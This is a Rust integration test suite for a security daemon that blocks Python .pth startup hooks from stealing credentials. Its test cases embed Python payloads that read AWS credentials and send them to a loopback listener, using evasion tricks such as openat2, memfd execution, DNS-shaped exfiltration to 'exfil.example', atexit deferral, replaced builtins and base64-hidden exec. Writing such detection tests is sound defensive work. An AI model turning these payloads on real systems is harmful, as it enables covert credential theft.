//! Evasion classes, each against the real kernel in block mode: a startup hook's child
//! reads the sandbox's AWS credentials in some roundabout way and sends them to a
//! loopback listener. Zero bytes may arrive, and the alert must name the hook.
//!
//! The daemon is told the sandbox HOME is a home (`--home`), so its credentials are also
//! catalogued by identity (inode), as real homes are: hardlinks and descriptor tricks do
//! not change an inode. Payloads are guarded by `PTHW_CHILD`; every wait is bounded.
use std::{path::Path, time::Duration};

use integration_tests::{
    Daemon, Sandbox, TcpSink, UdpSink, can_run,
    payload::{spawning_pth_line, wait_marker},
    real, run_bounded,
};
use serde_json::Value;

/// Prelude of every payload: where HOME and the credentials are.
const PRELUDE: &str = "import os, socket, sys
home = os.path.expanduser('~')
cred = os.path.join(home, '.aws', 'credentials')
";

/// Sends `blob` to the TCP listener on `PORT`; leaves the outcome in `r`.
const SEND_TCP: &str = "
try:
    s = socket.create_connection(('127.0.0.1', PORT), timeout=5)
    s.sendall(blob)
    s.close()
    r = 'sent'
except OSError as e:
    r = 'error %d' % e.errno
";

const FINISH: &str = "
with open(os.path.join(home, 'payload.done'), 'w') as f:
    f.write(r)
";

struct Case {
    name: &'static str,
    /// Reads the credentials into `blob` (and may send them itself, setting `r`).
    read: &'static str,
    /// Whether `read` already sent (and set `r`).
    sends_itself: bool,
    udp: bool,
    env: &'static [(&'static str, &'static str)],
    /// Another rule that must fire too.
    also: Option<&'static str>,
}

const CASES: &[Case] = &[
    Case {
        name: "relative-path",
        read: "os.chdir(os.path.join(home, '.aws'))\nblob = open('credentials', 'rb').read()\n",
        sends_itself: false,
        udp: false,
        env: &[],
        also: None,
    },
    Case {
        name: "openat-dirfd",
        read: "d = os.open(os.path.join(home, '.aws'), os.O_RDONLY | os.O_DIRECTORY)\nfd = os.open('credentials', os.O_RDONLY, dir_fd=d)\nblob = os.read(fd, 4096)\n",
        sends_itself: false,
        udp: false,
        env: &[],
        also: None,
    },
    Case {
        name: "openat2",
        read: "import ctypes, struct\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\nhow = ctypes.create_string_buffer(struct.pack('QQQ', os.O_RDONLY, 0, 0))\nfd = libc.syscall(437, -100, cred.encode(), how, 24)\nassert fd >= 0, ctypes.get_errno()\nblob = os.read(fd, 4096)\n",
        sends_itself: false,
        udp: false,
        env: &[],
        also: None,
    },
    Case {
        name: "symlink",
        read: "link = '/tmp/pthw-evasion-%d' % os.getpid()\nos.symlink(cred, link)\nblob = open(link, 'rb').read()\nos.unlink(link)\n",
        sends_itself: false,
        udp: false,
        env: &[],
        also: None,
    },
    Case {
        name: "hardlink",
        read: "alias = os.path.join(home, 'innocent.txt')\nos.link(cred, alias)\nblob = open(alias, 'rb').read()\n",
        sends_itself: false,
        udp: false,
        env: &[],
        also: None,
    },
    Case {
        name: "proc-self-root",
        read: "blob = open('/proc/self/root' + cred, 'rb').read()\n",
        sends_itself: false,
        udp: false,
        env: &[],
        also: None,
    },
    Case {
        name: "proc-self-fd",
        read: "p = os.open(cred, os.O_PATH)\nblob = open('/proc/self/fd/%d' % p, 'rb').read()\n",
        sends_itself: false,
        udp: false,
        env: &[],
        also: None,
    },
    Case {
        name: "sendfile",
        read: "fd = os.open(cred, os.O_RDONLY)\ntry:\n    s = socket.create_connection(('127.0.0.1', PORT), timeout=5)\n    os.sendfile(s.fileno(), fd, 0, 4096)\n    s.close()\n    r = 'sent'\nexcept OSError as e:\n    r = 'error %d' % e.errno\n",
        sends_itself: true,
        udp: false,
        env: &[],
        also: None,
    },
    Case {
        name: "mmap-splice",
        read: "import mmap\nfd = os.open(cred, os.O_RDONLY)\nm = mmap.mmap(fd, 0, prot=mmap.PROT_READ)\nrp, wp = os.pipe()\nos.write(wp, m[:])\ntry:\n    s = socket.create_connection(('127.0.0.1', PORT), timeout=5)\n    os.splice(rp, s.fileno(), len(m))\n    s.close()\n    r = 'sent'\nexcept OSError as e:\n    r = 'error %d' % e.errno\n",
        sends_itself: true,
        udp: false,
        env: &[],
        also: None,
    },
    Case {
        name: "dns-shaped",
        read: "import base64\nblob = open(cred, 'rb').read()\nlabels = base64.b32encode(blob).decode().rstrip('=').lower()\nq = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'\nfor i in range(0, len(labels), 60):\n    part = labels[i:i + 60].encode()\n    q += bytes([len(part)]) + part\nq += b'\\x05exfil\\x07example\\x00\\x00\\x10\\x00\\x01'\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n    u.sendto(q, ('127.0.0.1', PORT))\n    r = 'sent'\nexcept OSError as e:\n    r = 'error %d' % e.errno\n",
        sends_itself: true,
        udp: true,
        env: &[],
        also: None,
    },
    Case {
        name: "only-in-ci",
        read: "if not os.environ.get('CI'):\n    sys.exit(0)\nblob = open(cred, 'rb').read()\n",
        sends_itself: false,
        udp: false,
        env: &[("CI", "true"), ("GITHUB_ACTIONS", "true")],
        also: None,
    },
    Case {
        name: "dropped-to-disk-and-run",
        read: "import subprocess\nstage = os.path.join(home, '.cache', 'sysmon.py')\nos.makedirs(os.path.dirname(stage), exist_ok=True)\nwith open(stage, 'w') as f:\n    f.write('#!/usr/bin/python3.11\\nimport os, socket\\nblob = open(%r, \"rb\").read()\\ntry:\\n    s = socket.create_connection((\"127.0.0.1\", PORT), timeout=5)\\n    s.sendall(blob)\\n    print(\"sent\")\\nexcept OSError as e:\\n    print(\"error %%d\" %% e.errno)\\n' % cred)\nos.chmod(stage, 0o755)\ntry:\n    r = subprocess.run([stage], capture_output=True, text=True).stdout.strip()\nexcept OSError as e:\n    r = 'error %d' % e.errno\n",
        sends_itself: true,
        udp: false,
        env: &[],
        also: Some("hook_exec_written_file"),
    },
    Case {
        name: "memfd-exec",
        read: "import subprocess\nm = os.memfd_create('kworker', 0)\nos.write(m, ('#!/usr/bin/python3.11\\nimport os, socket\\nblob = open(%r, \"rb\").read()\\ntry:\\n    s = socket.create_connection((\"127.0.0.1\", PORT), timeout=5)\\n    s.sendall(blob)\\n    print(\"sent\")\\nexcept OSError as e:\\n    print(\"error %%d\" %% e.errno)\\n' % cred).encode())\ntry:\n    r = subprocess.run(['/proc/self/fd/%d' % m], pass_fds=[m], capture_output=True, text=True).stdout.strip()\nexcept OSError as e:\n    r = 'error %d' % e.errno\n",
        sends_itself: true,
        udp: false,
        env: &[],
        also: Some("hook_exec_written_file"),
    },
];

fn run_case(case: &Case) {
    let sb = Sandbox::new(case.name);
    let tcp = TcpSink::start();
    let udp = UdpSink::start();
    let port = if case.udp { udp.port } else { tcp.port };
    let mut code = format!("{PRELUDE}{}", case.read);
    if !case.sends_itself {
        code.push_str(SEND_TCP);
    }
    code.push_str(FINISH);
    let code = code.replace("PORT", &port.to_string());
    let pth = sb.pth(
        &format!("{}.pth", case.name.replace('-', "_")),
        &spawning_pth_line(&code),
    );
    let home = sb.home.to_string_lossy().into_owned();
    let daemon = Daemon::start("block", &["--home", &home]);
    let mut cmd = sb.command(integration_tests::PYTHON);
    for (k, v) in case.env {
        cmd.env(k, v);
    }
    let (status, out) = run_bounded(cmd.args(["-c", "pass"]), Duration::from_secs(60));
    assert_eq!(status, 0, "{}: {out}", case.name);
    let done = wait_marker(&sb, Duration::from_secs(20));
    // A staged program may never run at all: where the kernel refuses the exec (the LSM
    // backend), that refusal is the block, and nothing is read or sent.
    let alert = daemon.wait_alert(Duration::from_secs(10), |a| {
        a["rule"] == "hook_credential_exfiltration" || exec_refused(a)
    });
    let also = case
        .also
        .map(|rule| daemon.wait_alert(Duration::from_secs(10), |a| a["rule"] == rule));
    let alerts = daemon.stop();
    let sent = tcp.bytes() + udp.bytes();
    assert_eq!(
        sent, 0,
        "{}: {sent} bytes left (payload said {done:?})",
        case.name
    );
    assert!(
        done.as_deref().is_some_and(|d| d.starts_with("error")),
        "{}: the payload must have been refused, it said {done:?}",
        case.name
    );
    let alert =
        alert.unwrap_or_else(|| panic!("{}: no exfiltration alert in {alerts:#?}", case.name));
    assert_eq!(alert["action"], "blocked", "{}: {alert:#}", case.name);
    assert_eq!(
        alert["startup_hook"]["path"].as_str(),
        Some(&*real(&pth).to_string_lossy()),
        "{}: {alert:#}",
        case.name
    );
    if exec_refused(&alert) {
        assert_eq!(
            case.also,
            Some("hook_exec_written_file"),
            "{}: {alert:#}",
            case.name
        );
        return;
    }
    if let (Some(rule), Some(found)) = (case.also, also) {
        assert!(
            found.is_some(),
            "{}: no {rule} alert in {alerts:#?}",
            case.name
        );
    }
}

/// A `hook_exec_written_file` alert for an exec the kernel refused.
fn exec_refused(alert: &serde_json::Value) -> bool {
    alert["rule"] == "hook_exec_written_file"
        && alert["summary"]
            .as_str()
            .is_some_and(|s| s.contains("the kernel refused"))
}

macro_rules! evasion_tests {
    ($($test:ident => $name:literal,)*) => {$(
        #[test]
        fn $test() {
            if can_run() {
                let case = CASES.iter().find(|c| c.name == $name).expect("case");
                run_case(case);
            }
        }
    )*};
}

evasion_tests! {
    evasion_relative_path => "relative-path",
    evasion_openat_dirfd => "openat-dirfd",
    evasion_openat2 => "openat2",
    evasion_symlink => "symlink",
    evasion_hardlink => "hardlink",
    evasion_proc_self_root => "proc-self-root",
    evasion_proc_self_fd => "proc-self-fd",
    evasion_sendfile => "sendfile",
    evasion_mmap_splice => "mmap-splice",
    evasion_dns_shaped_udp => "dns-shaped",
    evasion_only_in_ci => "only-in-ci",
    evasion_dropped_to_disk_and_run => "dropped-to-disk-and-run",
    evasion_memfd_exec => "memfd-exec",
}

#[test]
fn every_case_has_a_test() {
    let tests = include_str!("evasion.rs");
    for case in CASES {
        assert!(
            tests.contains(&format!("=> \"{}\",", case.name)),
            "case {} has no test",
            case.name
        );
    }
}

/// A ring buffer too small for an exec event: the lineage's events are lost, so in
/// block mode it is denied the network although nothing it read was seen; the daemon
/// keeps running, counts the loss and exits cleanly.
#[test]
fn a_lineage_whose_events_were_lost_fails_closed() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("lost");
    let tcp = TcpSink::start();
    let code = format!("{PRELUDE}blob = b'no credentials read here'\n{SEND_TCP}{FINISH}")
        .replace("PORT", &tcp.port.to_string());
    sb.pth("flood.pth", &spawning_pth_line(&code));
    let daemon = Daemon::start("block", &["--ringbuf-bytes", "4096"]);
    let (status, out) = sb.python(&["-c", "pass"]);
    assert_eq!(status, 0, "{out}");
    let done = wait_marker(&sb, Duration::from_secs(20));
    std::thread::sleep(Duration::from_millis(1500));
    let _alerts = daemon.stop();
    assert_eq!(done.as_deref(), Some("error 1"), "fail-closed must deny");
    assert_eq!(tcp.bytes(), 0);
}

/// Python defining `_upload()`, which reads the credentials and sends them to the TCP
/// listener on `port` (then leaves the outcome in `payload.done`).
fn upload_def(port: u16) -> String {
    let handler = format!("{PRELUDE}blob = open(cred, 'rb').read()\n{SEND_TCP}{FINISH}")
        .replace("PORT", &port.to_string());
    let body: Vec<String> = handler.lines().map(|l| format!("    {l}")).collect();
    format!("def _upload():\n{}\n", body.join("\n"))
}

/// Python registering `_upload()` as an exit handler.
fn exit_upload(port: u16) -> String {
    format!(
        "import atexit\n{}atexit.register(_upload)\n",
        upload_def(port)
    )
}

/// Runs a main program in the sandbox under `pthwatch --mode block`, with the exit
/// upload in `program` when given (else it only prints). Returns what the upload said and
/// every alert, with the exfiltration alert if one came.
fn run_to_exit(sb: &Sandbox, program: Option<&str>) -> (Option<String>, Option<Value>, Vec<Value>) {
    let home = sb.home.to_string_lossy().into_owned();
    let daemon = Daemon::start("block", &["--home", &home]);
    let program = program.unwrap_or("print('main program ran')");
    let (status, out) = run_bounded(
        sb.command(integration_tests::PYTHON).args(["-c", program]),
        Duration::from_secs(60),
    );
    assert_eq!(status, 0, "{out}");
    let done = wait_marker(sb, Duration::from_secs(20));
    let alert = daemon.wait_alert(Duration::from_secs(10), |a| {
        a["rule"] == "hook_credential_exfiltration"
    });
    (done, alert, daemon.stop())
}

/// The code a hook left behind was blocked, and the alert names the hook and what it left
/// (`deferral`: `exit` for exit handlers, `program` for code planted in the program).
fn assert_blocked_and_named(
    tcp: &TcpSink,
    run: (Option<String>, Option<Value>, Vec<Value>),
    pth: &Path,
    deferral: &str,
) {
    let (done, alert, alerts) = run;
    assert_eq!(tcp.bytes(), 0, "the exit handler sent (it said {done:?})");
    assert_eq!(done.as_deref(), Some("error 1"));
    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
    assert_eq!(alert["action"], "blocked", "{alert:#}");
    assert_eq!(
        alert["startup_hook"]["path"].as_str(),
        Some(&*real(pth).to_string_lossy()),
        "{alert:#}"
    );
    assert_eq!(alert["startup_hook"]["deferral"], deferral, "{alert:#}");
}

/// The program's own exit upload went through, not blamed on any hook.
fn assert_sent_unblamed(tcp: &TcpSink, run: (Option<String>, Option<Value>, Vec<Value>)) {
    let (done, alert, alerts) = run;
    assert_eq!(done.as_deref(), Some("sent"), "{alerts:#?}");
    assert!(tcp.bytes() > 0);
    assert!(alert.is_none(), "{alerts:#?}");
}

/// A hook that defers its work to the interpreter's exit (`atexit`): the handler runs in
/// the main thread after the user's program, so it reads and sends on the hook's behalf
/// (`Py_FinalizeEx` hands the main thread back to the hook's lineage). In block mode
/// nothing arrives, and the alert names the hook.
#[test]
fn evasion_deferred_to_interpreter_exit() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("atexit");
    let tcp = TcpSink::start();
    let pth = sb.pth(
        "deferred.pth",
        &format!(
            "import base64; exec(base64.b64decode('{}'))\n",
            integration_tests::base64(exit_upload(tcp.port).as_bytes())
        ),
    );
    assert_blocked_and_named(&tcp, run_to_exit(&sb, None), &pth, "exit");
}

/// The same deferral one step removed: the hook is a plain `import`, and the module it
/// imports (beside it in the site dir) registers the exit handler. The hook's text shows
/// nothing to defer, so the inventory follows the import; the handler is still the hook's.
#[test]
fn evasion_deferred_to_exit_by_an_imported_module() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("import-atexit");
    let tcp = TcpSink::start();
    std::fs::write(sb.site.join("pthw_telemetry.py"), exit_upload(tcp.port))
        .expect("write the imported module");
    let pth = sb.pth("pthw_telemetry.pth", "import pthw_telemetry\n");
    assert_blocked_and_named(&tcp, run_to_exit(&sb, None), &pth, "exit");
}

/// The other side: a hook whose code is in plain sight and registers nothing is not
/// blamed for what the program's own exit handler does (here: read the credentials and
/// send them, as a legitimate upload at exit would). Block mode lets it through.
#[test]
fn a_programs_own_exit_handler_is_not_blamed_on_a_hook_that_cannot_defer() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("own-atexit");
    let tcp = TcpSink::start();
    sb.pth(
        "settings.pth",
        "import os; os.environ.setdefault('PTHW_SETTING', '1')\n",
    );
    assert_sent_unblamed(&tcp, run_to_exit(&sb, Some(&exit_upload(tcp.port))));
}

/// The other side of following imports: a hook that imports a plain module (beside it,
/// registering nothing) is not blamed for the program's own exit handler.
#[test]
fn a_programs_own_exit_handler_is_not_blamed_on_a_hook_importing_a_plain_module() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("import-plain");
    let tcp = TcpSink::start();
    std::fs::write(
        sb.site.join("pthw_settings.py"),
        "import os\nos.environ.setdefault('PTHW_SETTING', '1')\n",
    )
    .expect("write the imported module");
    sb.pth("pthw_settings.pth", "import pthw_settings\n");
    assert_sent_unblamed(&tcp, run_to_exit(&sb, Some(&exit_upload(tcp.port))));
}

/// Deferral into the program itself: the module a hook imports plants an import hook
/// (`sys.meta_path`) whose finder uploads the credentials when the program first imports
/// `wave`, on the main thread, long after start-up. Code a hook plants in the program is
/// the hook's wherever it runs: nothing arrives, and the alert names the hook.
#[test]
fn evasion_planted_import_hook_runs_in_the_program() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("meta-path");
    let tcp = TcpSink::start();
    let module = format!(
        "import sys\n{}class _Finder:\n    fired = False\n    def find_spec(self, name, path=None, target=None):\n        if name == 'wave' and not _Finder.fired:\n            _Finder.fired = True\n            _upload()\n        return None\nsys.meta_path.insert(0, _Finder())\n",
        upload_def(tcp.port)
    );
    std::fs::write(sb.site.join("pthw_plugins.py"), module).expect("write the imported module");
    let pth = sb.pth("pthw_plugins.pth", "import pthw_plugins\n");
    let program = "import wave\nprint('main program ran')";
    assert_blocked_and_named(&tcp, run_to_exit(&sb, Some(program)), &pth, "program");
}

/// The same with a replaced builtin, in the hook's own line: `print` now uploads the
/// credentials first, and the program's first `print` runs it.
#[test]
fn evasion_replaced_builtin_runs_in_the_program() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("builtin-print");
    let tcp = TcpSink::start();
    std::fs::write(sb.site.join("pthw_upload.py"), upload_def(tcp.port))
        .expect("write the imported module");
    let pth = sb.pth(
        "pthw_console.pth",
        "import builtins; builtins.print = lambda *a, _p=builtins.print, _b=builtins, **k: (__import__('pthw_upload')._upload(), setattr(_b, 'print', _p), _p(*a, **k))\n",
    );
    assert_blocked_and_named(&tcp, run_to_exit(&sb, None), &pth, "program");
}

/// The replaced builtin again, hidden in base64 as droppers hide their payloads: decoded,
/// the hook's code is read like plain text, so what it plants is still the hook's.
#[test]
fn evasion_replaced_builtin_hidden_in_base64() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("b64-print");
    let tcp = TcpSink::start();
    let payload = format!(
        "{}import builtins\n_p = builtins.print\ndef _pp(*a, **k):\n    builtins.print = _p\n    _upload()\n    _p(*a, **k)\nbuiltins.print = _pp\n",
        upload_def(tcp.port)
    );
    let pth = sb.pth(
        "pthw_console.pth",
        &format!(
            "import base64; exec(base64.b64decode('{}'), {{}})\n",
            integration_tests::base64(payload.as_bytes())
        ),
    );
    assert_blocked_and_named(&tcp, run_to_exit(&sb, None), &pth, "program");
}
